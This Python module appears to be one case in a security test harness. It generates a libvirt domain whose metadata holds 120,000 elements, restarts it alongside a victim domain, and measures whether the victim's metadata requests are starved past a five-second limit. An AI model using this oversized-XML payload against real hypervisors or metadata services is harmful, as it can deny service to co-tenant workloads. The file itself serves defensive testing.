"""An operator starts a domain again and again whose metadata are as large as libvirt takes, in as many elements as fit.

The server reads one domain of a libvirt after another. Gained: neighbours that are not served after they start, for the server still reads
somebody else's XML. In the way: a domain of more than 50,000 elements, or 4 MiB, is not looked into.
"""

import time

import attack
import space
from attack import Outcome
from attacks.target_of_others import UUID
from field import METADATA, Field, ask
from host import Host

ELEMENTS = 120_000
# How long a neighbour may wait after its start, in seconds: as long as its requests are held.
MOST = 5


def _huge() -> str:
    elements = "".join(f"<e n='{number}'/>" for number in range(ELEMENTS))
    return (f"<domain type='test'><name>intruder</name><uuid>{UUID}</uuid><memory>8192</memory><vcpu>1</vcpu><os><type>hvm</type></os>"
            f"<metadata><instance xmlns='urn:virt-metadata:instance:1'>{elements}</instance></metadata></domain>")


class Attack(attack.Attack):
    """The domain starts while victim-1 does, five times."""

    families = (4,)
    hosts = ("address",)
    victims = slice(1, None)
    no_proof = "the bounds of a document are part of reading it"

    def prepare(self, host: Host) -> None:
        """It runs."""
        host.hypervisor.start(_huge())

    def attack(self, field: Field) -> None:
        """Nothing more: the XML is the attack. The forger asks as ever."""
        field.ready()
        while field.goes_on():
            ask(METADATA[field.family])

    def during(self, host: Host, outcome: Outcome) -> None:
        """Starts both anew, the neighbour last."""
        first, waits = host.victims[0], []
        for _ in range(5):
            host.hypervisor.stop("intruder", first.name)
            host.hypervisor.start(_huge(), first.xml())
            begin = time.monotonic()
            try:
                host.wait_until_served(first, seconds=3 * MOST)
            except space.Failure:
                pass
            waits.append(round(time.monotonic() - begin, 2))
        outcome.host_report["waits"] = waits

    def gained(self, outcome: Outcome) -> str | None:
        """A neighbour that waits."""
        longest = max(outcome.host_report["waits"])
        if longest > MOST:
            return f"victim-1 was served {longest} s after its start"
        return f"victims lost {outcome.lost} requests" if outcome.lost else None

    def restore(self, host: Host) -> None:
        """Ends the domain."""
        host.hypervisor.stop("intruder")
